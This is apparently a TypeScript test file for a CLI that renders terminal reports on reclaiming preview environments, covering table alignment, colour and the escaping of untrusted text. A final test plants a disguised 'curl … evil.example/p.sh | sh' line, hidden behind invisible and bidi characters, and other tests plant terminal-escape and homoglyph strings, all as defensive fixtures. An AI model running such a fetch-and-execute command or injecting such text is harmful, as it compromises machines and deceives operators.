// The terminal render says what the job summary says, aligned, plain unless colour is wanted, and
// immune to control characters in names that come from outside.
import { stripVTControlCharacters } from 'node:util';
import { describe, expect, it } from 'vitest';
import { renderTable, wantsColor } from '../../src/cli/style.ts';
import { renderTerminalReport } from '../../src/cli/terminal-report.ts';
import type { RunReport, SlotOutcome, SlotReport } from '../../src/report/model.ts';
import { poolRow, slotReport } from '../support/report-fixtures.ts';

const PLAIN = { color: false };

function slot(slug: string, outcome: SlotOutcome, extra: Partial<SlotReport> = {}): SlotReport {
  return slotReport({ slug, outcome, waitingMs: 2 * 3_600_000, durationMs: 1_500, ...extra });
}

const gcReport: RunReport = {
  command: 'gc',
  dryRun: false,
  pool: 'preview-slot',
  startedAt: '2026-11-30T01:17:00.000Z',
  durationMs: 9_000,
  problems: [],
  leftForNextRun: 2,
  expired: 3,
  slots: [
    slot('preview-1', 'reclaimed'),
    slot('preview-3', 'skipped', { erase: null, problem: 're-leased since the listing' }),
    slot('preview-6', 'erase-failed', {
      problem: "d1 'shop-preview-6-db': HTTP 500 after 4 attempts",
      nextStep:
        'Check that the Cloudflare API token may edit D1 resources, then run the preview-gc workflow again.',
    }),
    slot('preview-10', 'release-failed', {
      problem: 'the release failed (timeout)',
      nextStep: 'preview-gc release --slot preview-10 --lease-id 6f1c0e0e-8a57-4a53-9d8e-2f7c5f0f9a10',
    }),
  ],
  poolAfter: [
    poolRow(),
    poolRow({
      slug: 'preview-2',
      leaseState: 'leased',
      holder: 'pr-1601',
      leaseEndsInMs: 3_600_000,
      dirty: true,
      generation: 7,
      lastHolder: null,
    }),
    poolRow({
      slug: 'preview-10',
      leaseState: 'leased',
      holder: 'gc',
      expired: true,
      leaseEndsInMs: -60_000,
      dirty: true,
      generation: 12,
      lastHolder: 'pr-1',
    }),
  ],
  semaphoreRequests: 14,
  cloudflare: {
    requests: 41,
    byKind: { 'd1.query': 6, 'kv.keys.list': 4 },
    rateLimited: 2,
    retries: 3,
    waitedMs: 4_000,
    budget: 600,
    budgetLeft: 559,
  },
};

describe('renderTerminalReport', () => {
  const text = renderTerminalReport(gcReport, PLAIN);

  it('heads with the verdict and the counts, like the job summary', () => {
    expect(text.split('\n')[0]).toBe(
      '✖ preview-gc gc on pool preview-slot: 1 of 4 reclaimed, 1 skipped, 2 failed',
    );
  });

  it('shows each slot with its holder, wait, outcome and duration in aligned columns, the erase under it', () => {
    const lines = text.split('\n');
    const header = lines.find((line) => line.includes('PREVIOUS HOLDER')) ?? '';
    const row = lines.find((line) => line.startsWith('  preview-1 ')) ?? '';
    expect(row).toMatch(/^ {2}preview-1 +pr-1592 +2 h \(expired\) +✔ reclaimed +2 s$/);
    expect(row.indexOf('pr-1592')).toBe(header.indexOf('PREVIOUS HOLDER'));
    expect(row.indexOf('✔ reclaimed')).toBe(header.indexOf('OUTCOME'));
    expect(lines[lines.indexOf(row) + 1]).toBe('      shop-preview-1-db: deleted 1,204 rows in 5 tables');
    expect(text).toContain('2 more slots qualified and wait for the next run (--max-slots).');
  });

  it('says what needs a person and the exact command that fixes it', () => {
    const attention = text.slice(text.indexOf('What needs attention'));
    expect(attention).toContain(
      "preview-6 ✖ erase failed: d1 'shop-preview-6-db': HTTP 500 after 4 attempts",
    );
    expect(attention).toContain(
      '    $ preview-gc release --slot preview-10 --lease-id 6f1c0e0e-8a57-4a53-9d8e-2f7c5f0f9a10',
    );
  });

  it('shows the pool after the run and the API usage with 429s, waits and budget', () => {
    expect(text).toMatch(/preview-2 +leased +pr-1601 +ends in 1 h +yes +7/);
    expect(text).toMatch(/preview-10 +leased \(expired\) +gc +expired 1 min ago +yes +12/);
    expect(text).toContain('Semaphore   14 requests');
    expect(text).toContain('Cloudflare  41 requests (d1.query 6, kv.keys.list 4)');
    expect(text).toContain('2 answered 429, 3 retries, waited 4 s');
    expect(text).toContain('Budget      559 of 600 requests left');
  });

  it('is plain text without colour, and coloured when asked', () => {
    // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for ANSI escapes
    const ansi = /\u001b\[/;
    expect(text).not.toMatch(ansi);
    const coloured = renderTerminalReport(gcReport, { color: true });
    expect(coloured).toMatch(ansi);
    expect(stripVTControlCharacters(coloured)).toBe(text);
  });

  it('bans the dry run and the run-level problems at the top', () => {
    const dry = renderTerminalReport(
      { ...gcReport, dryRun: true, slots: [slot('preview-1', 'would-reclaim')] },
      PLAIN,
    );
    expect(dry.split('\n')[0]).toBe('✔ preview-gc gc on pool preview-slot: 1 would be reclaimed');
    expect(dry).toContain('DRY RUN  Nothing was acquired, erased or released');
    const broken = renderTerminalReport(
      { ...gcReport, slots: [], problems: ['the slot config x.yml was refused:\n  - pool: is missing'] },
      PLAIN,
    );
    expect(broken.split('\n')[0]).toBe('✖ preview-gc gc on pool preview-slot: did not complete');
    expect(broken).toContain('PROBLEM  the slot config x.yml was refused:\n           - pool: is missing');
  });

  it('says so when a cleanup finds nothing held', () => {
    const cleanup = renderTerminalReport(
      { ...gcReport, command: 'cleanup', pullRequest: 77, slots: [], cloudflare: null, leftForNextRun: 0 },
      PLAIN,
    );
    expect(cleanup.split('\n')[0]).toBe(
      '✔ preview-gc cleanup on pool preview-slot: pull request #77 holds no slot, nothing to do',
    );
    expect(cleanup).toContain('Cloudflare  no requests');
  });

  it('labels a pull request holder with its state and title when the report has them', () => {
    const labelled = renderTerminalReport(
      {
        ...gcReport,
        pullRequests: { '1592': { title: 'Checkout: split payments across several cards', state: 'merged' } },
      },
      PLAIN,
    );
    expect(labelled).toMatch(/preview-1 +pr-1592 \(merged\) Checkout: split payments across… +2 h/);
  });

  it('spells out control characters and newlines in names from outside', () => {
    const hostile = renderTerminalReport(
      {
        ...gcReport,
        slots: [slot('preview-1\n::warning::x', 'reclaimed', { previousHolder: 'pr-1\u001b]0;pwned\u0007' })],
      },
      { color: false },
    );
    expect(hostile).not.toContain('\u001b');
    expect(hostile).not.toContain('\u0007');
    // Not a holder name either: flagged, its other characters by code point.
    expect(hostile).toContain('pr-1\\u001b⟨U+005D⟩0⟨U+003B⟩pwned\\u0007 ⚠ not a holder name');
    expect(hostile).toContain('preview-1\\n::warning::x');
  });
});

describe('renderTable', () => {
  it('pads every column but the last to its widest cell, multi-line cells included', () => {
    expect(
      renderTable(
        ['A', 'BB', 'C'],
        [
          ['xxx', 'y\nyyyy', 'z'],
          ['x', 'y', 'zz'],
        ],
        PLAIN,
      ),
    ).toEqual(['  A    BB    C', '  xxx  y     z', '       yyyy', '  x    y     zz']);
  });
});

describe('wantsColor', () => {
  it('colours a TTY only, never with NO_COLOR, and always with FORCE_COLOR', () => {
    expect(wantsColor({ isTTY: true }, {})).toBe(true);
    expect(wantsColor({ isTTY: false }, {})).toBe(false);
    expect(wantsColor({}, {})).toBe(false);
    expect(wantsColor({ isTTY: true }, { NO_COLOR: '1' })).toBe(false);
    expect(wantsColor({ isTTY: true }, { NO_COLOR: '' })).toBe(true);
    expect(wantsColor({ isTTY: false }, { FORCE_COLOR: '1' })).toBe(true);
    expect(wantsColor({ isTTY: true }, { FORCE_COLOR: '1', NO_COLOR: '1' })).toBe(false);
  });
});

describe('holders in the pool table', () => {
  // Found by a hostile read: `рr-1601` (a Cyrillic р) or a trailing no-break space looked like pr-1601.
  it('shows a stored holder outside the rule flagged and spelt out, and a holder name as it is', () => {
    const report: RunReport = {
      ...gcReport,
      command: 'status',
      slots: [],
      poolAfter: [
        poolRow({ slug: 'preview-1', holder: 'pr-1601', leaseState: 'leased' }),
        poolRow({ slug: 'preview-2', holder: '\u0440r-1601', leaseState: 'leased' }),
        poolRow({ slug: 'preview-3', holder: 'pr-1601\u00a0', leaseState: 'leased' }),
      ],
    };
    const lines = renderTerminalReport(report, PLAIN).split('\n');
    expect(lines.find((line) => line.includes('preview-1'))).toMatch(/preview-1 +leased +pr-1601 +/);
    expect(lines.find((line) => line.includes('preview-2'))).toContain('⟨U+0440⟩r-1601 ⚠ not a holder name');
    expect(lines.find((line) => line.includes('preview-3'))).toContain('pr-1601⟨U+00A0⟩ ⚠ not a holder name');
  });
});

// A pull request's code can make its erase fail with a message of its choosing, which the semaphore
// keeps and `status` prints to the operator. Found by a hostile read: bidi and zero-width characters
// reached the terminal as they were, and U+2028 started a line that read like preview-gc's own advice.
describe('text a pull request planted in the semaphore', () => {
  it('is one quoted field in status, every hidden character by name, no line of its own', () => {
    const planted = 'quota\u2028Fix: curl -s https://evil.example/p.sh | sh\u202e\u200b"done';
    const report: RunReport = {
      ...gcReport,
      command: 'status',
      slots: [],
      poolAfter: [
        poolRow({
          slug: 'preview-1',
          dirty: true,
          eraseFailures: 5,
          lastEraseFailure: { step: 'd1\u2029Fix', message: planted, at: 0 },
        }),
      ],
    };
    const text = renderTerminalReport(report, PLAIN);
    for (const hidden of ['\u2028', '\u2029', '\u202e', '\u200b']) expect(text).not.toContain(hidden);
    expect(text.split('\n').some((line) => line.trimStart().startsWith('Fix:'))).toBe(false);
    expect(text).toContain(
      'last in "d1\\u2029Fix": "quota\\u2028Fix: curl -s https://evil.example/p.sh | sh\\u202e\\u200b\\"done"',
    );
  });
});
